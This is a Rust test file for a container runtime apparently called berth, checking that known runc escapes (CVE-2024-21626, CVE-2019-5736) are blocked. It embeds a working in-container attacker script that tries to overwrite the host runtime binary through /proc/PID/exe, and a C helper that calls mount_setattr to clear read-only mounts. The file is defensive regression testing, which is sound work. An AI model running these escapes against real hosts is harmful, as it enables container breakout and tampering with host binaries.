//! Regression tests for known runc container escapes.

use berth_integration::*;
use serde_json::json;

/// CVE-2024-21626: a descriptor of a host directory leaked into the
/// container, reached through a `/proc/self/fd/N` working directory, gave
/// the process a cwd outside the rootfs. Every such cwd must be refused.
#[test]
fn cve_2024_21626_no_host_directory_through_proc_self_fd() {
    let berth = Berth::new();
    let mut b = Bundle::new();
    b.sh("sleep 100");
    let id = unique("cve21626");
    assert!(berth.create(&b, &id).status.success());
    berth.ok(&["start", &id]);
    for n in 0..=20 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = berth.run(&["exec", "--cwd", &cwd, &id, "sh", "-c", "readlink /proc/self/cwd"]);
        assert_eq!(out.status.code(), Some(255), "exec with cwd {cwd} ran in {}", String::from_utf8_lossy(&out.stdout));
    }
    berth.ok(&["delete", "--force", &id]);
    for n in 3..=12 {
        let mut b = Bundle::new();
        b.config["process"]["cwd"] = json!(format!("/proc/self/fd/{n}"));
        b.sh("readlink /proc/self/cwd");
        let id = unique("cve21626run");
        let (code, out, _) = berth.run_bundle(&b, &id);
        assert_eq!(code, 1, "init with cwd /proc/self/fd/{n} ran in {out}");
        assert_nothing_left(&berth, &id, None);
    }
}

/// The exec'd process and init hold no descriptor but stdio (and what the
/// caller preserved): nothing of berth's reaches the container.
#[test]
fn cve_2024_21626_no_runtime_descriptor_reaches_the_container() {
    let berth = Berth::new();
    let mut b = Bundle::new();
    b.sh("ls -l /proc/self/fd > /tmp/init-fds.tmp; mv /tmp/init-fds.tmp /tmp/init-fds; sleep 100");
    let id = unique("cvefds");
    assert!(berth.create(&b, &id).status.success());
    berth.ok(&["start", &id]);
    let out = berth.ok(&["exec", &id, "sh", "-c", "ls /proc/self/fd | tr '\\n' ' '"]);
    assert_eq!(out.trim(), "0 1 2 3", "stdio and ls's own directory only");
    assert!(wait_until(5, || b.rootfs().join("tmp/init-fds").exists()));
    let init = std::fs::read_to_string(b.rootfs().join("tmp/init-fds")).unwrap();
    let fds: Vec<u32> =
        init.lines().filter_map(|l| l.split_once(" -> ")?.0.split_whitespace().last()?.parse().ok()).collect();
    assert!(
        fds.starts_with(&[0, 1, 2]) && fds.iter().all(|f| *f <= 3),
        "init's program sees stdio (and ls's own directory) only: {init}"
    );
    berth.ok(&["delete", "--force", &id]);
}

/// `--preserve-fds N` hands the container the caller's descriptors 3 to
/// 2+N. Where the caller has none open there, the lowest free numbers are
/// berth's own: the descriptors its ELF entry opens before main (the
/// detached read-only mount of its binary, CVE-2019-5736). They are not
/// the caller's: an error, as for any descriptor not open, and nothing of
/// berth's reaches the process (it held the mount).
#[test]
fn preserve_fds_never_passes_berths_own_descriptors() {
    let berth = Berth::new();
    let mut b = Bundle::new();
    b.sh("sleep 100");
    let id = unique("cvepfd");
    assert!(berth.create(&b, &id).status.success());
    berth.ok(&["start", &id]);
    // The test's Command leaves descriptors 3 and up closed in berth.
    for n in ["1", "2", "3"] {
        let out = berth.run(&["exec", "--preserve-fds", n, &id, "sh", "-c", "touch /tmp/ran; ls -l /proc/self/fd"]);
        let err = String::from_utf8_lossy(&out.stderr);
        // Refused with the global options, before exec's own 255.
        assert_eq!(out.status.code(), Some(1), "exec --preserve-fds {n} ran: {}", String::from_utf8_lossy(&out.stdout));
        assert!(err.contains("--preserve-fds: descriptor 3 is not open"), "{err}");
        assert!(!b.rootfs().join("tmp/ran").exists(), "the process ran");
    }
    berth.ok(&["delete", "--force", &id]);
    let mut b = Bundle::new();
    b.sh("ls -l /proc/self/fd");
    let id = unique("cvepfdrun");
    b.write();
    let out = berth.run(&["run", "--preserve-fds", "2", "--bundle", b.path().to_str().unwrap(), &id]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "run --preserve-fds 2 ran: {}", String::from_utf8_lossy(&out.stdout));
    assert!(err.contains("--preserve-fds: descriptor 3 is not open"), "{err}");
    assert_nothing_left(&berth, &id, None);
}

/// The attacker of CVE-2019-5736, as a script run inside the container: it
/// waits for a process whose command line names /bin/evil (the host's
/// berth, if the runtime is vulnerable, run as the interpreter of
/// `#!/proc/self/exe`), holds its /proc/PID/exe, and once that process is
/// gone tries to write through it. Its verdict appears whole (renamed
/// into place): the test reads it as soon as it exists.
const ATTACKER: &str = r#"
evil=$1
while :; do
  for d in /proc/[0-9]*; do
    case "$(tr '\0' ' ' < $d/cmdline 2>/dev/null)" in
      "/proc/self/exe $evil"*) if exec 3< $d/exe; then echo opened > /tmp/opened; break 2; fi ;;
    esac
  done
done
# With CAP_SYS_ADMIN: try to make the mount under fd 3 writable.
[ -x /unseal ] && /unseal 3 > /tmp/unsealed 2>&1
i=0
while [ $i -lt 100 ]; do
  if echo PWNED >> /proc/self/fd/3 2>/tmp/err; then echo wrote > /tmp/result.tmp; mv /tmp/result.tmp /tmp/result; exit 0; fi
  i=$((i+1)); usleep 50000
done
echo "refused: $(cat /tmp/err)" > /tmp/result.tmp
mv /tmp/result.tmp /tmp/result
sleep 100
"#;

/// A pipe whose buffer is full: a process writing its error to it blocks
/// (so the attacker has time to find it) until the read end closes.
fn full_pipe() -> (std::os::fd::OwnedFd, std::os::fd::OwnedFd) {
    use std::os::fd::FromRawFd;
    let mut fds = [0; 2];
    // SAFETY: fds is a valid out array; the descriptors are ours.
    unsafe {
        assert_eq!(libc::pipe2(fds.as_mut_ptr(), libc::O_CLOEXEC | libc::O_NONBLOCK), 0);
        let chunk = [b'x'; 4096];
        while libc::write(fds[1], chunk.as_ptr().cast(), chunk.len()) > 0 {}
        let fl = libc::fcntl(fds[1], libc::F_GETFL);
        libc::fcntl(fds[1], libc::F_SETFL, fl & !libc::O_NONBLOCK);
        (std::os::fd::OwnedFd::from_raw_fd(fds[0]), std::os::fd::OwnedFd::from_raw_fd(fds[1]))
    }
}

/// The attacker's helper with CAP_SYS_ADMIN: mount_setattr(2) clears
/// MOUNT_ATTR_RDONLY on the mount of the file open on descriptor argv[1].
/// A detached mount (open_tree) that berth still holds would let it, from
/// any mount namespace, on the kernels of this host and of the VM.
const UNSEAL_C: &str = r#"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <unistd.h>
#include <sys/syscall.h>
struct mount_attr_ { unsigned long long set, clr, propagation, userns_fd; };
int main(int argc, char **argv) {
    struct mount_attr_ a = { 0, 1, 0, 0 };
    long r = syscall(442, atoi(argv[1]), "", 0x1000, &a, sizeof a);
    printf("%s\n", r == 0 ? "unsealed" : strerror(errno));
    return r != 0;
}
"#;

/// Builds UNSEAL_C, static, into the rootfs as /unseal.
fn install_unseal(b: &Bundle) {
    let dir = TempDir::new("berth-unseal");
    let src = dir.0.join("unseal.c");
    std::fs::write(&src, UNSEAL_C).unwrap();
    let out = std::process::Command::new("cc")
        .args(["-static", "-O1", "-o"])
        .arg(b.rootfs().join("unseal"))
        .arg(&src)
        .output()
        .expect("cc (the attacker's helper needs a C compiler; rustc's linker is one)");
    assert!(out.status.success(), "cc: {}", String::from_utf8_lossy(&out.stderr));
}

/// CVE-2019-5736: `#!/proc/self/exe` in the container must never expose a
/// writable host berth binary, whether berth execs it as init's program or
/// for `berth exec`, also to a container with CAP_SYS_ADMIN (`sys_admin`:
/// it then tries to clear the read-only flag of the mount it found). The
/// test runs a copy of berth, so that a vulnerable build only overwrites
/// the copy.
fn attack_host_binary(as_init: bool, sys_admin: bool) {
    let copy_dir = TempDir::new("berth-copy");
    let copy = copy_dir.0.join("berth");
    std::fs::copy(berth_bin(), &copy).unwrap();
    let before = std::fs::read(&copy).unwrap();
    let berth = Berth::with_bin(copy.clone());
    let mut b = Bundle::new();
    let id = unique(if as_init { "cve5736init" } else { "cve5736exec" });
    let evil_name = format!("/bin/evil-{id}");
    let evil = b.rootfs().join(&evil_name[1..]);
    std::fs::write(&evil, "#!/proc/self/exe\n").unwrap();
    std::fs::write(b.rootfs().join("attack.sh"), ATTACKER).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).unwrap();
    if sys_admin {
        install_unseal(&b);
        for set in ["bounding", "effective", "permitted"] {
            b.config["process"]["capabilities"][set].as_array_mut().unwrap().push(json!("CAP_SYS_ADMIN"));
        }
    }
    let bundle = b.path().to_str().unwrap().to_string();
    let (rd, wr) = full_pipe();
    let mut blocked = if as_init {
        b.config["process"]["args"] = json!([evil_name]);
        // Init's death would end a pid namespace and the attacker with it:
        // share the host's, as a pod's containers may share one.
        b.config["linux"]["namespaces"].as_array_mut().unwrap().retain(|n| n["type"] != "pid");
        b.write();
        let mut create = berth.cmd();
        create.args(["create", "--bundle", &bundle, &id]);
        create.stdin(std::process::Stdio::null()).stdout(wr.try_clone().unwrap()).stderr(wr);
        assert!(create.status().unwrap().success(), "create");
        berth.ok(&["exec", "-d", &id, "sh", "/attack.sh", &evil_name]);
        berth.ok(&["start", &id]);
        None
    } else {
        b.config["process"]["args"] = json!(["sh", "/attack.sh", evil_name]);
        assert!(berth.create(&b, &id).status.success());
        berth.ok(&["start", &id]);
        let mut exec = berth.cmd();
        exec.args(["exec", &id, &evil_name]);
        exec.stdin(std::process::Stdio::null()).stdout(wr.try_clone().unwrap()).stderr(wr);
        Some(exec.spawn().unwrap())
    };
    // Generous: under TCG in the VM a shell scanning /proc is slow.
    let opened = wait_until(60, || b.rootfs().join("tmp/opened").exists());
    drop(rd);
    if let Some(c) = blocked.as_mut() {
        let _ = c.wait();
    }
    assert!(opened, "the attacker never saw the {evil_name} process");
    assert!(wait_until(60, || b.rootfs().join("tmp/result").exists()), "the attacker never finished");
    let result = std::fs::read_to_string(b.rootfs().join("tmp/result")).unwrap();
    let unsealed = std::fs::read_to_string(b.rootfs().join("tmp/unsealed")).unwrap_or_default();
    let after = std::fs::read(&copy).unwrap();
    assert!(
        after == before,
        "the host's berth binary was overwritten from the container ({result}; mount_setattr: {unsealed})"
    );
    assert!(result.starts_with("refused"), "{result}");
    if sys_admin {
        // The attacker got as far as mount_setattr, and the kernel refused.
        assert!(!unsealed.trim().is_empty() && unsealed.trim() != "unsealed", "mount_setattr: {unsealed:?}");
    }
    berth.ok(&["delete", "--force", &id]);
}

#[test]
fn cve_2019_5736_exec_cannot_overwrite_the_host_binary() {
    attack_host_binary(false, false);
}

#[test]
fn cve_2019_5736_init_cannot_overwrite_the_host_binary() {
    attack_host_binary(true, false);
}

#[test]
fn cve_2019_5736_exec_with_cap_sys_admin_cannot_unseal_the_host_binary() {
    attack_host_binary(false, true);
}

#[test]
fn cve_2019_5736_init_with_cap_sys_admin_cannot_unseal_the_host_binary() {
    attack_host_binary(true, true);
}

/// The system calls of one berth process under strace, by name: BIN run
/// by `unshare -m sh -c "SETUP; strace OPTS ... BIN --root STATE ARGS"`,
/// in a mount namespace of its own.
fn syscalls_of(
    setup: &str,
    opts: &str,
    bin: &std::path::Path,
    env: &[(&str, &str)],
    args: &[&str],
) -> (Option<i32>, Vec<String>) {
    let dir = TempDir::new("berth-entry");
    let trace = dir.0.join("trace");
    let script = format!("{setup}\nexec strace {opts} -o \"$0\" -- \"$@\"");
    let out = std::process::Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c", &script])
        .arg(&trace)
        .arg(bin)
        .arg("--root")
        .arg(dir.0.join("state"))
        .args(args)
        .envs(env.iter().copied())
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let text = std::fs::read_to_string(&trace)
        .unwrap_or_else(|e| panic!("no strace output ({e}): {}", String::from_utf8_lossy(&out.stderr)));
    let calls = text
        .lines()
        .filter(|l| l.starts_with(|c: char| c.is_ascii_lowercase()))
        .map(|l| l.split('(').next().unwrap_or_default().to_string())
        .collect();
    (out.status.code(), calls)
}

/// For the commands that enter a container, nothing of the host's binary
/// stays mapped past berth's ELF entry (src/entry.rs): it maps every
/// segment again from a detached read-only mount before glibc starts, and
/// exeseal::ensure makes that file /proc/self/exe (PR_SET_MM_MAP), with no
/// second exec. Where the kernel refuses that, berth re-executes from the
/// same mount. Other commands, a binary already on a read-only mount and
/// an image that claims to be the copy are left as they are; the last is
/// refused (by exeseal::ensure), not looped.
#[test]
fn the_host_binary_is_unmapped_before_libc_starts() {
    let bin = berth_bin();
    let entry = ["execve", "openat", "fstatfs", "fcntl", "open_tree", "close", "mount_setattr", "openat", "mmap"];
    let count = |calls: &[String], name: &str| calls.iter().filter(|c| *c == name).count();
    let missing = ["exec", "no-such-container", "true"];
    let create = ["create", "--bundle", "/nonexistent", "no-such"];
    let (code, calls) = syscalls_of("", "", &bin, &[], &missing);
    for (cmd, calls) in [(&missing[..], calls), (&create[..], syscalls_of("", "", &bin, &[], &create).1)] {
        assert_eq!(calls[..entry.len()], entry, "berth {cmd:?} began: {calls:?}");
        assert!(count(&calls, "mmap") >= 2 && count(&calls, "prctl") == 1, "berth {cmd:?}: {calls:?}");
        assert_eq!(calls.iter().filter(|c| c.starts_with("execve")).count(), 1, "berth {cmd:?}: {calls:?}");
    }
    // The kernel refuses (strace says so): one re-execution, from the
    // mount the entry made; the command then goes on as before.
    let (refused, calls) = syscalls_of("", "-e inject=prctl:error=EPERM:when=1", &bin, &[], &missing);
    assert_eq!((count(&calls, "execveat"), count(&calls, "open_tree")), (1, 1), "{calls:?}");
    assert_eq!(refused, code, "the re-executed berth exec ends as the other: {calls:?}");
    let reexecs = |calls: &[String]| calls.iter().any(|c| c == "execveat" || c == "open_tree");
    let (_, calls) = syscalls_of("", "", &bin, &[], &["state", "no-such-container"]);
    assert!(!reexecs(&calls), "state made a copy: {calls:?}");
    let (code, calls) = syscalls_of("", "", &bin, &[("_BERTH_SEALED_EXE", "1")], &missing);
    assert!(!reexecs(&calls), "a claimed copy made another: {calls:?}");
    assert_eq!(code, Some(1), "a writable image claiming to be the copy is refused");
    let ro = TempDir::new("berth-ro");
    std::fs::copy(&bin, ro.0.join("berth")).unwrap();
    let (code, calls) = syscalls_of(
        &format!("mount --bind {d} {d} && mount -o remount,bind,ro {d} || exit 99", d = ro.0.display()),
        "",
        &ro.0.join("berth"),
        &[],
        &missing,
    );
    assert_ne!(code, Some(99), "setting up the read-only mount");
    assert!(!reexecs(&calls), "a binary on a read-only mount made a copy: {calls:?}");
}

/// Every berth process that enters a container maps its binary only from
/// the read-only mount, and /proc/PID/exe names that: checked on init
/// while it waits for `start`, through /proc/PID/map_files, which opens
/// each mapping's file as the kernel holds it.
#[test]
fn berth_in_a_container_maps_nothing_writable_of_its_binary() {
    use std::os::unix::fs::MetadataExt;
    let berth = Berth::new();
    let mut b = Bundle::new();
    b.sh("true");
    let id = unique("mapsro");
    assert!(berth.create(&b, &id).status.success());
    let pid = berth.state(&id)["pid"].as_i64().unwrap();
    let host = std::fs::metadata(berth_bin()).unwrap();
    let read_only = |path: &std::path::Path| {
        let c = std::ffi::CString::new(path.as_os_str().as_encoded_bytes()).unwrap();
        // SAFETY: statvfs into a zeroed struct we own.
        let mut st: libc::statvfs = unsafe { std::mem::zeroed() };
        // SAFETY: c is a valid string and st a valid out pointer.
        assert_eq!(unsafe { libc::statvfs(c.as_ptr(), &mut st) }, 0, "{}", path.display());
        st.f_flag & libc::ST_RDONLY != 0
    };
    let mut ours = vec![std::path::PathBuf::from(format!("/proc/{pid}/exe"))];
    for m in std::fs::read_dir(format!("/proc/{pid}/map_files")).unwrap() {
        let path = m.unwrap().path();
        let meta = std::fs::metadata(&path).unwrap();
        if (meta.dev(), meta.ino()) == (host.dev(), host.ino()) {
            ours.push(path);
        }
    }
    let writable: Vec<_> = ours.iter().filter(|p| !read_only(p)).collect();
    // PR_SET_MM_MAP set the whole layout again, from what the entry saw
    // (linux/mmlayout.rs): /proc still finds berth's arguments and
    // environment where the kernel put them.
    let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap();
    let cmdline = String::from_utf8_lossy(&cmdline);
    let args: Vec<&str> = cmdline.strip_suffix('\0').unwrap_or(&cmdline).split('\0').collect();
    let environ = std::fs::read(format!("/proc/{pid}/environ")).unwrap();
    berth.ok(&["delete", "--force", &id]);
    assert_eq!(args.first().copied(), berth_bin().to_str(), "{args:?}");
    assert!(args.contains(&"create") && args.last() == Some(&id.as_str()), "{args:?}");
    assert!(environ.split(|b| *b == 0).any(|v| v.starts_with(b"PATH=")), "environment: {environ:?}");
    assert!(ours.len() >= 4, "init maps its binary: {ours:?}");
    assert!(writable.is_empty(), "reached through a writable mount: {writable:?}");
}

/// The helper that drops the entry's detached mount apart from berth's
/// own work (exeseal::release_apart) is berth's child: a berth that stays,
/// a foreground `run`, reaps it and keeps the container's init as its only
/// child.
#[test]
fn a_foreground_run_keeps_no_zombie_helper() {
    let berth = Berth::new();
    let mut b = Bundle::new();
    b.sh("sleep 60");
    b.write();
    let id = unique("zombie");
    let mut run = berth.cmd();
    run.args(["run", "--bundle", b.path().to_str().unwrap(), &id]);
    run.stdin(std::process::Stdio::null()).stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null());
    let mut child = run.spawn().unwrap();
    let pid = child.id();
    let started = wait_until(30, || {
        let out = berth.run(&["state", &id]);
        String::from_utf8_lossy(&out.stdout).contains("\"running\"")
    });
    assert!(started, "berth run never started {id}");
    let children = || -> Vec<(String, char)> {
        let list = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).unwrap_or_default();
        list.split_whitespace()
            .map(|c| {
                let stat = std::fs::read_to_string(format!("/proc/{c}/stat")).unwrap_or_default();
                let state = stat.rsplit_once(") ").and_then(|(_, r)| r.chars().next()).unwrap_or('?');
                (c.to_string(), state)
            })
            .collect()
    };
    let only_init = wait_until(10, || {
        let c = children();
        c.len() == 1 && c[0].1 != 'Z'
    });
    let seen = children();
    berth.ok(&["kill", &id, "KILL"]);
    let _ = child.wait();
    let _ = berth.run(&["delete", "--force", &id]);
    assert!(only_init, "berth run's children: {seen:?}");
}

/// A berth that fails at once leaves no process behind either: it waits
/// for its helper (still dissolving the mount it ran from) before exiting.
#[test]
fn a_failing_create_leaves_no_helper_behind() {
    let berth = Berth::new();
    let mut lingering = Vec::new();
    for round in 0..20 {
        let id = unique("nohelper");
        let out = berth.run(&["create", "--bundle", "/nonexistent-bundle", &id]);
        assert_eq!(out.status.code(), Some(1), "round {round}");
        let left = processes_mentioning(&id);
        if !left.is_empty() {
            lingering.push((round, left));
        }
    }
    assert!(lingering.is_empty(), "berth processes outlived berth: {lingering:?}");
}

/// A berth started with stdin and stdout closed: the descriptors the
/// entry opens must not take their numbers (berth itself opens /dev/null
/// there first), and the process still gets /dev/null on both. Before,
/// the entry's read-only mount landed on descriptor 1 and berth aborted.
#[test]
fn berth_with_stdin_and_stdout_closed_still_enters_the_container() {
    let berth = Berth::new();
    let mut b = Bundle::new();
    // The shell's own descriptors (ls's stdout would be the redirection).
    let show = r#"for f in 0 1; do echo "fd $f -> $(readlink /proc/$$/fd/$f)" >&2; done"#;
    b.sh(show);
    b.write();
    let id = unique("closedio");
    let closed = |args: &[&str]| {
        let out = std::process::Command::new("sh")
            .args(["-c", "exec \"$0\" \"$@\" <&- >&-"])
            .arg(&berth.bin)
            .arg("--root")
            .arg(&berth.root.0)
            .args(args)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr).into_owned();
        assert!(out.status.success(), "berth {args:?}: {:?} {err}", out.status);
        let null = |fd: &str| err.lines().any(|l| l == format!("fd {fd} -> /dev/null"));
        assert!(null("0") && null("1"), "berth {args:?}: the process's descriptors: {err}");
    };
    closed(&["run", "--bundle", b.path().to_str().unwrap(), &id]);
    b.sh("sleep 100");
    assert!(berth.create(&b, &id).status.success());
    berth.ok(&["start", &id]);
    closed(&["exec", &id, "sh", "-c", show]);
    berth.ok(&["delete", "--force", &id]);
}
